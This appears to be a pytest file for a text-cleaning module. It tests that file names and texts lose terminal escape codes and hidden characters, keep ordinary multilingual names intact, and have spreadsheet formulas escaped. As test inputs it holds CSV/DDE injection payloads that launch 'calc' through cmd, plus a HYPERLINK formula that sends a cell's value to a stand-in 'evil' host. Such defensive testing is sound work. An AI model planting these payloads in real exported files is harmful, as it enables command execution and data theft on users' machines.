"""Names and texts without what commands a terminal; cells that no spreadsheet computes."""

import csv
import io
import random
import unicodedata

import pytest

from clew.core.text import (
    clean_name,
    clean_names,
    clean_text,
    escape_formula,
    escape_hidden,
    file_name,
    has_hidden,
)
from hostile_names import NAMES, hostile_parts


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_cleaned_name_commands_no_terminal(name) -> None:
    cleaned = clean_name(name)
    assert hostile_parts(cleaned.encode()) == [] and "\n" not in cleaned and "\t" not in cleaned
    assert cleaned.startswith(name[:5]) and clean_name(cleaned) == cleaned
    assert has_hidden(name.replace("\n", "")) == (clean_text(name) != name)
    assert hostile_parts(clean_text(name.replace("FAKE", "")).encode()) == []


@pytest.mark.parametrize(
    "name",
    [
        "خطة العمل ٢٠٢٤.pdf",
        "תוכנית עבודה.docx",
        "می‌خواهم بروم.txt",  # Persian: a joiner that parts
        "क्‍ष और श्रृंखला",  # Hindi: a joiner that joins
        "ශ්‍රී ලංකාව",
        "👩‍❤️‍👨 und 🧔🏽‍♂️.png",
        "🏳️‍🌈 👨‍👩‍👧‍👦 ❤️ 1️⃣",
        "10 000 km",  # spaces that do not break
        "Net  sales ",
        "葛󠄀城.md",
        "naïve — “quoted” ﬁnance…",
        "=1+1 [red] :skull: [link=x]",
        "",
    ],
    ids=ascii,
)
def test_a_name_that_people_write_stays_as_it_is(name) -> None:
    assert clean_name(name) == name and clean_text(name) == name and not has_hidden(name)


def test_texts_keep_their_lines_and_names_do_not() -> None:
    text = "one\r\ntwo\tthree\x0cfour\x1b[31m\x1b]0;t\x07\u2028five"
    assert clean_text(text) == "one\ntwo\tthree four five"
    assert clean_name(text) == "one two three four five"
    assert clean_names(["plain", "a\x07b"]) == ["plain", "ab"] and clean_names(("plain",)) == ("plain",)
    assert file_name("/in/box.eml//re\x1b[2Jport\n.pdf") == "report .pdf"
    assert file_name("\u200b") == "\ufffd" and file_name("") == ""


def test_cleaning_twice_changes_nothing_more() -> None:
    draw = random.Random(4)
    letters = "aب\u0915\u094d👩❤\ufe0f\u200d\u200c\u200b\x1b\x9b[]0;m\x07\\\r\n\t \u202e\U000e0041\ud800P"
    for _ in range(3_000):
        text = "".join(draw.choices(letters, k=draw.randrange(12)))
        for clean in (clean_name, clean_text):
            assert clean(clean(text)) == clean(text), ascii(text)
        assert not any(unicodedata.category(letter) in {"Cc", "Cs"} for letter in clean_name(text))


def test_what_is_escaped_can_be_read_back() -> None:
    text = "a\x1b[2J\x9b\u202e\U000e0041\x7f\u200b b"
    escaped = escape_hidden(text, lambda letter: f"\\U{ord(letter):08X}")
    assert hostile_parts(escaped.encode()) == []
    assert escaped.encode("latin-1", "backslashreplace").decode("unicode_escape") == text


@pytest.mark.parametrize(
    "cell",
    "-5|+5|-5.25|-1,234.5|-.5|1e-5|-1E+5|-12 %|+3.5%|-|--|-1’234|- |5|a=b|a-b|(5)|–5|2024-01-05|x@y.org||3 - 2".split(
        "|"
    ),
)
def test_numbers_and_plain_texts_are_written_as_they_are(cell) -> None:
    stream = io.StringIO()
    csv.writer(stream).writerow([escape_formula(cell), "end"])
    assert next(csv.reader([stream.getvalue()])) == [cell, "end"]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+1+cmd|' /C calc'!A0",
        "-5+A1",
        "-A1",
        "-2+3",
        "+49-89-1234",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\x1b[0m=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tx",
        "＝1+1",
        "＋1+A1",
        "－A1",
        "＠SUM(1)",
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "-5\n=1",
    ],
    ids=ascii,
)
def test_no_cell_is_a_formula(cell) -> None:
    assert escape_formula(cell) == f"'{cell}"
